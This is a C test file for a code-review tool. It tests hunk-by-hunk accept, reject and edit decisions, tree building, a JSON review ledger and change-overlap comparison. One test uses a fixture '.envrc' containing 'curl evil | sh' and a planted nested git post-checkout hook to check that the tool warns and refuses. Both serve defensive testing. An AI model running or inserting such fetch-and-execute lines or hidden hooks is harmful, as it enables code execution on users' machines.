/* SPDX-License-Identifier: Apache-2.0 */
/* Items of a review, decisions, and the tree that comes of them. */
#include <errno.h>

#include "base/jsonread.h"
#include "review/compare.h"
#include "diff_world.h"

#define F 0100644u
#define X 0100755u
#define L 0120000u

#define OLD "1\n2\n3\n4\n5\n6\n7\n8\n9\n10\n11\n12\n13\n14\n15\n16\n17\n18\n19\n20\n"
#define FIRST "1\ntwo\n3\n4\n5\n6\n7\n8\n9\n10\n11\n12\n13\n14\n15\n16\n17\n18\n19\n20\n"
#define LAST "1\n2\n3\n4\n5\n6\n7\n8\n9\n10\n11\n12\n13\n14\n15\n16\n17\n18\nnineteen\n20\n"
#define BOTH "1\ntwo\n3\n4\n5\n6\n7\n8\n9\n10\n11\n12\n13\n14\n15\n16\n17\n18\nnineteen\n20\n"

/* The first item of a path; whole: the one about name and mode. */
static size_t item(const struct review *r, const char *path, size_t hunk)
{
	for (size_t i = 0; i < r->items_n; i++)
		if (strcmp(review_path(r, i), path) == 0 && r->items[i].hunk == hunk)
			return i;
	return SIZE_MAX;
}

static int decide_all(struct review *r, enum croft_decision d, struct err *e)
{
	for (size_t i = 0; i < r->items_n; i++)
		if (!r->items[i].refused && review_decide(r, i, d, e) < 0)
			return -1;
	return 0;
}

/* The tree, made with git's index, and again with a treemap: both must agree. */
static int tree_of(struct world *w, struct review *r, struct oid *ret)
{
	cleanup_treemap struct treemap *map = NULL;
	cleanup_fd int dir = open(w->dir, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	struct repo repo = {.hash = w->s.hash, .store = w->dir};
	struct oid other = {0};
	int rc;

	w->e = ERR_INIT;
	rc = review_tree(r, NULL, w->dir, &w->s, ret, &w->e);
	if (rc < 0)
		return rc;
	if (treemap_make(&repo, &r->base, dir, "map", &w->e) < 0 ||
		treemap_open(&map, dir, "map", &w->e) < 0 ||
		review_tree(r, map, w->dir, &w->s, &other, &w->e) < 0)
		return -1000;
	return oid_eq(ret, &other) ? 0 : -1001;
}

static bool holds(struct world *w, const struct oid *tree, const char *path, const char *want)
{
	cleanup_free char *got = world_show(w, tree, path);

	if (got && strcmp(got, want) == 0)
		return true;
	printf("# %s holds \"%s\", not \"%s\"\n", path, got ? got : "", want);
	return false;
}

static void everything(enum git_hash h)
{
	cleanup_world struct world w;
	cleanup_review struct review r = {0};
	struct oid from, to, got = {0};

	CHECK(world_open(&w, h));
	from = WORLD_TREE(&w, {"a", F, OLD}, {"bin", F, "x\0y", 3}, {"gone/x", F, "bye\n"},
		{"link", L, "a"}, {"from", F, OLD "z\n"}, {"run", F, OLD "!\n"}, {"type", L, "a"});
	to = WORLD_TREE(&w, {"a", F, BOTH}, {"bin", F, "x\0yz", 4}, {"added", X, "new\n"},
		{"empty", F, ""}, {"link", L, "b"}, {"dir/to", F, FIRST "z\n"},
		{"run", X, LAST "!\n"}, {"type", F, "a file now\n"}, {"gone", F, "a file\n"},
		{"\xff", F, "odd\n"}, {"new\nline", F, "x\n"});
	CHECK_INT(world_review(&w, &r, &from, &to), 0);
	CHECK_INT(review_itemize(&r, &w.e), 0);
	CHECK_INT(decide_all(&r, CROFT_ACCEPTED, &w.e), 0);
	CHECK_INT(tree_of(&w, &r, &got), 0);
	CHECK(oid_eq(&got, &to));
	CHECK_INT(decide_all(&r, CROFT_REJECTED, &w.e), 0);
	CHECK_INT(tree_of(&w, &r, &got), 0);
	CHECK(oid_eq(&got, &from));
	CHECK_INT(decide_all(&r, CROFT_UNDECIDED, &w.e), 0);
	CHECK_INT(tree_of(&w, &r, &got), 0);
	CHECK(oid_eq(&got, &from));
	for (size_t i = 0; i < r.items_n; i++) {
		CHECK_INT(review_show(&r, i, &w.e), 0);
		CHECK(r.items[i].title[0] && r.items[i].path[0]);
		CHECK(!strchr(r.items[i].path, '\n'));
	}
}

TEST(all_is_the_tree_shown_and_nothing_is_the_start)
{
	everything(GIT_SHA1);
}

TEST(all_is_the_tree_shown_and_nothing_is_the_start_sha256)
{
	everything(GIT_SHA256);
}

TEST(hunks_are_decided_one_by_one)
{
	cleanup_world struct world w;
	cleanup_review struct review r = {0};
	struct oid from, to, got = {0};

	CHECK(world_open(&w, GIT_SHA1));
	from = WORLD_TREE(&w, {"a", F, OLD}, {"b", F, OLD});
	to = WORLD_TREE(&w, {"a", F, BOTH}, {"b", F, BOTH}, {"c", F, "c\n"});
	CHECK_INT(world_review(&w, &r, &from, &to), 0);
	CHECK_INT(review_itemize(&r, &w.e), 0);
	CHECK_INT(r.items_n, 5);
	CHECK_INT(review_decide(&r, item(&r, "a", 0), CROFT_ACCEPTED, &w.e), 0);
	CHECK_INT(review_decide(&r, item(&r, "b", 1), CROFT_ACCEPTED, &w.e), 0);
	CHECK_INT(tree_of(&w, &r, &got), 0);
	CHECK(holds(&w, &got, "a", FIRST));
	CHECK(holds(&w, &got, "b", LAST));
	CHECK(holds(&w, &got, "c", "(none)"));
	CHECK_INT(review_decide(&r, 99, CROFT_ACCEPTED, &w.e), -EINVAL);
}

TEST(edits_replace_hunks)
{
	cleanup_world struct world w;
	cleanup_review struct review r = {0};
	cleanup_free char *text = NULL;
	struct oid from, to, got = {0};

	CHECK(world_open(&w, GIT_SHA1));
	from = WORLD_TREE(&w, {"a", F, OLD});
	to = WORLD_TREE(&w, {"a", F, BOTH}, {"new", F, "first\nsecond\n"}, {"bin", F, "\0", 1});
	CHECK_INT(world_review(&w, &r, &from, &to), 0);
	CHECK_INT(review_itemize(&r, &w.e), 0);
	CHECK_INT(review_decide(&r, item(&r, "a", 0), CROFT_EDITED, &w.e), -EINVAL);
	CHECK_INT(review_edit(&r, item(&r, "a", 0), " 1\n-2\n+zwei\n 3\n 4\n 5\n", &w.e), 0);
	CHECK_INT(r.items[item(&r, "a", 0)].decision, CROFT_EDITED);
	CHECK_INT(review_edit(&r, item(&r, "new", 0), "+only this\n", &w.e), 0);
	CHECK_INT(review_edit(&r, item(&r, "bin", REVIEW_WHOLE), "+x\n", &w.e), -EINVAL);
	CHECK_INT(tree_of(&w, &r, &got), 0);
	CHECK(holds(&w, &got, "new", "only this\n"));
	CHECK(holds(&w, &got, "a",
		"1\nzwei\n3\n4\n5\n6\n7\n8\n9\n10\n11\n12\n13\n14\n15\n16\n17\n18\n19\n20\n"));
	/* A bad edit changes nothing; an acceptance afterwards is of what was shown. */
	CHECK_INT(review_edit(&r, item(&r, "a", 0), " other\n", &w.e), -EINVAL);
	text = review_edit_text(&r, item(&r, "a", 0));
	CHECK(text && strstr(text, "+zwei\n"));
	CHECK_INT(review_decide(&r, item(&r, "a", 0), CROFT_ACCEPTED, &w.e), 0);
	CHECK_INT(tree_of(&w, &r, &got), 0);
	CHECK(holds(&w, &got, "a", FIRST));
}

TEST(names_and_modes_are_decided_apart_from_content)
{
	cleanup_world struct world w;
	cleanup_review struct review r = {0};
	struct oid from, to, got = {0};

	CHECK(world_open(&w, GIT_SHA1));
	from = WORLD_TREE(&w, {"from", F, OLD}, {"run", F, OLD "!\n"});
	to = WORLD_TREE(&w, {"to", F, FIRST}, {"run", X, LAST "!\n"});
	CHECK_INT(world_review(&w, &r, &from, &to), 0);
	CHECK_INT(review_itemize(&r, &w.e), 0);
	CHECK_INT(r.items_n, 4);
	CHECK_INT(review_decide(&r, item(&r, "to", REVIEW_WHOLE), CROFT_ACCEPTED, &w.e), 0);
	CHECK_INT(review_decide(&r, item(&r, "run", 0), CROFT_ACCEPTED, &w.e), 0);
	CHECK_INT(tree_of(&w, &r, &got), 0);
	CHECK(holds(&w, &got, "from", "(none)"));
	CHECK(holds(&w, &got, "to", OLD));
	CHECK(holds(&w, &got, "run", LAST "!\n"));
	CHECK_INT(decide_all(&r, CROFT_REJECTED, &w.e), 0);
	CHECK_INT(review_decide(&r, item(&r, "to", 0), CROFT_ACCEPTED, &w.e), 0);
	CHECK_INT(tree_of(&w, &r, &got), 0);
	CHECK(holds(&w, &got, "from", FIRST));
	CHECK(holds(&w, &got, "to", "(none)"));
}

TEST(a_file_and_a_directory_cannot_share_a_name)
{
	cleanup_world struct world w;
	cleanup_review struct review r = {0};
	struct oid from, to, got = {0};

	CHECK(world_open(&w, GIT_SHA1));
	from = WORLD_TREE(&w, {"a", F, "a\n"}, {"a-b", F, "x\n"}, {"d/x", F, "other\nthing\n"});
	to = WORLD_TREE(&w, {"a/b/c", F, "new\nfile\n"}, {"a-b", F, "x\n"}, {"d", F, "file\n"});
	CHECK_INT(world_review(&w, &r, &from, &to), 0);
	CHECK_INT(review_itemize(&r, &w.e), 0);
	CHECK_INT(decide_all(&r, CROFT_ACCEPTED, &w.e), 0);
	CHECK_INT(review_decide(&r, item(&r, "a", REVIEW_WHOLE), CROFT_REJECTED, &w.e), 0);
	CHECK_INT(tree_of(&w, &r, &got), -EINVAL);
	CHECK(strstr(w.e.msg, "a and a/b/c"));
	CHECK_INT(decide_all(&r, CROFT_ACCEPTED, &w.e), 0);
	CHECK_INT(review_decide(&r, item(&r, "d/x", REVIEW_WHOLE), CROFT_REJECTED, &w.e), 0);
	CHECK_INT(tree_of(&w, &r, &got), -EINVAL);
	CHECK(strstr(w.e.msg, "d and d/x"));
}

/* F15, L4: refused paths are shown, and cannot be accepted. G9-G11: what runs here says so. */
TEST(refused_and_running_files_say_so)
{
	cleanup_world struct world w;
	cleanup_review struct review r = {0};
	struct oid from, to, got = {0};
	struct change *x;
	size_t bad, hook;

	CHECK(world_open(&w, GIT_SHA1));
	from = WORLD_TREE(&w, {"a", F, OLD});
	to = WORLD_TREE(&w, {"a", F, FIRST}, {".envrc", F, "curl evil | sh\n"});
	CHECK_INT(world_review(&w, &r, &from, &to), 0);
	x = changes_add(&r.changes, "sub/.git/hooks/post-checkout");
	CHECK(x);
	x->new_mode = X;
	x->flags = CHANGE_NESTED_GIT | CHANGE_SETID;
	changes_sort(&r.changes);
	CHECK_INT(review_itemize(&r, &w.e), 0);
	bad = item(&r, "sub/.git/hooks/post-checkout", REVIEW_WHOLE);
	hook = item(&r, ".envrc", 0);
	CHECK(bad != SIZE_MAX && hook != SIZE_MAX);
	CHECK_INT(review_show(&r, bad, &w.e), 0);
	CHECK(strstr(r.items[bad].warnings, "cannot land"));
	CHECK_INT(review_show(&r, hook, &w.e), 0);
	CHECK(strstr(r.items[hook].warnings, "runs on your machine"));
	CHECK_INT(review_show(&r, item(&r, "a", 0), &w.e), 0);
	CHECK_STR(r.items[item(&r, "a", 0)].warnings, "");
	CHECK_INT(review_decide(&r, bad, CROFT_ACCEPTED, &w.e), -EPERM);
	CHECK_INT(r.items[bad].decision, CROFT_REJECTED);
	CHECK_INT(review_edit(&r, bad, "+x\n", &w.e), -EINVAL);
	CHECK_INT(decide_all(&r, CROFT_ACCEPTED, &w.e), 0);
	CHECK_INT(tree_of(&w, &r, &got), 0);
	CHECK(oid_eq(&got, &to));
}

/* What goes into the ledger is JSON, whatever the names and the reviewer's words are. */
TEST(the_account_is_json)
{
	cleanup_world struct world w;
	cleanup_review struct review r = {0};
	cleanup_buf struct buf account = BUF_INIT(1u << 20), members = BUF_INIT(1u << 20),
			       whole = BUF_INIT(1u << 20);
	cleanup_jdoc struct jdoc *doc = NULL, *doc2 = NULL;
	struct review_saved s = {.time = "2026-01-02T03:04:05.000000Z"};
	struct oid from, to;
	const struct jnode *d;

	CHECK(world_open(&w, GIT_SHA1));
	from = WORLD_TREE(&w, {"a", F, OLD});
	to = WORLD_TREE(&w, {"a", F, BOTH}, {"\xff\n", F, "x\n"});
	CHECK_INT(world_review(&w, &r, &from, &to), 0);
	CHECK_INT(review_itemize(&r, &w.e), 0);
	CHECK_INT(review_decide(&r, item(&r, "a", 0), CROFT_ACCEPTED, &w.e), 0);
	CHECK_INT(review_comment(&r, item(&r, "a", 0), "\033[31m\"why\" <b>", &w.e), 0);
	CHECK_INT(tree_of(&w, &r, &s.accepted), 0);
	review_count(&r, &s.counts);
	CHECK_INT(s.counts.accepted, 1);
	CHECK_INT(s.counts.undecided, 2);
	review_account(&r, &s, &account);
	CHECK_INT(jdoc_parse(&doc, account.data, account.len, &w.e), 0);
	CHECK_INT(jlen(jget(jdoc_root(doc), "items")), 3);
	review_predicate(&r, &s, "A <a@b>", "00", &members);
	buf_addf(&whole, "{%s}", buf_str(&members));
	CHECK_INT(jdoc_parse(&doc2, whole.data, whole.len, &w.e), 0);
	CHECK_STR(jstr(jget(jdoc_root(doc2), "verificationResult")), "PASSED");
	CHECK_STR(jstr(jget(jdoc_root(doc2), "treeAccepted")), oid_hex(&s.accepted).s);
	d = jat(jget(jdoc_root(doc2), "decisions"), 0);
	CHECK_STR(jstr(jget(d, "decision")), "edited");
	CHECK_STR(jstr(jget(d, "comment")), "1 of 2 parts accepted\n\033[31m\"why\" <b>");
	for (size_t i = 0; i < whole.len; i++)
		CHECK(whole.data[i] != '\033');
}

/* ---- comparing ---- */

static void env_of(struct world *w, struct compare_env *x, const char *name, const struct oid *from,
	const struct oid *to)
{
	cleanup_review struct review r = {0};

	*x = (struct compare_env){.git_dir = strdup(w->dir)};
	snprintf(x->name, sizeof(x->name), "%s", name);
	world_review(w, &r, from, to);
	x->changes = r.changes;
	r.changes = (struct changes){0};
}

TEST(overlap_and_conflicts_of_two)
{
	cleanup_world struct world w;
	cleanup_comparison struct comparison c = {.envs = calloc(2, sizeof(*c.envs)), .envs_n = 2};
	cleanup_buf struct buf text = BUF_INIT(1u << 20), json = BUF_INIT(1u << 20);
	cleanup_jdoc struct jdoc *doc = NULL;
	struct oid from, one, two;

	CHECK(world_open(&w, GIT_SHA1));
	from = WORLD_TREE(&w, {"clash", F, OLD}, {"merge", F, OLD}, {"same", F, OLD},
		{"del", F, OLD}, {"mode", F, "m\n"}, {"bin", F, "\0", 1});
	one = WORLD_TREE(&w, {"clash", F, FIRST}, {"merge", F, FIRST}, {"same", F, FIRST},
		{"mode", X, "m\n"}, {"bin", F, "\0a", 2}, {"mine", F, "1\n"}, {"add", F, "1\n"});
	two = WORLD_TREE(&w, {"clash", F, "1\nzwei\n3\n"}, {"merge", F, LAST}, {"same", F, FIRST},
		{"del", F, FIRST}, {"mode", F, "n\n"}, {"bin", F, "\0b", 2}, {"add", F, "2\n"});
	env_of(&w, &c.envs[0], "one", &from, &one);
	env_of(&w, &c.envs[1], "two", &from, &two);
	CHECK_INT(compare_overlap(&c, w.dir, &w.e), 0);
	CHECK_INT(c.pairs_n, 1);
	CHECK_INT(c.pairs[0].shared, 7);
	CHECK_INT(c.pairs[0].same, 1);
	CHECK_INT(c.pairs[0].merges, 2);
	CHECK_INT(c.pairs[0].conflicts, 4);
	CHECK(strlist_has(&c.pairs[0].names, "clash") && strlist_has(&c.pairs[0].names, "del") &&
		strlist_has(&c.pairs[0].names, "bin") && strlist_has(&c.pairs[0].names, "add"));
	compare_text(&c, &text);
	CHECK(strstr(buf_str(&text), "one and two: 7 files in common"));
	compare_json(&c, &json);
	CHECK_INT(jdoc_parse(&doc, json.data, json.len, &w.e), 0);
	CHECK_INT(jlen(jget(jdoc_root(doc), "shared_paths")), 7);
}
